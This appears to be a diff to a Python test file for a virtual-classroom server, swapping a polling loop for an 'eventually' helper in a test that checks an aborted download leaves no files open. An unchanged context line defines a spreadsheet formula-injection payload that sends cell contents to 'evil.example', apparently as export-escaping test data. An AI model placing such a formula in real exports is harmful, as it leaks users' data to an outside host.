@@ -29,6 +29,7 @@ from liveclass.records import RecordsWriter
 from signaling import events as ev
 from signaling.events import RoomEvent
 from tests.archive_seed import school_time, seed_archived_session
+from tests.helpers import eventually
 from tests.test_cli import assert_clean_failure, liveclass
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
@@ -482,10 +483,7 @@ async def test_a_client_that_goes_away_mid_download_leaves_nothing_open(server, 
     def open_files() -> set[str]:
         return {os.path.realpath(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")}
 
-    for _ in range(100):
-        if str(big.resolve()) not in open_files():
-            break
-        await asyncio.sleep(0.05)
+    await eventually(lambda: str(big.resolve()) not in open_files(), 5, "the server to close the recording")
     assert str(big.resolve()) not in open_files()
     assert "failed while streaming" not in caplog.text
     _, body = await _export(teacher, archived.session_id)  # and the next export is whole
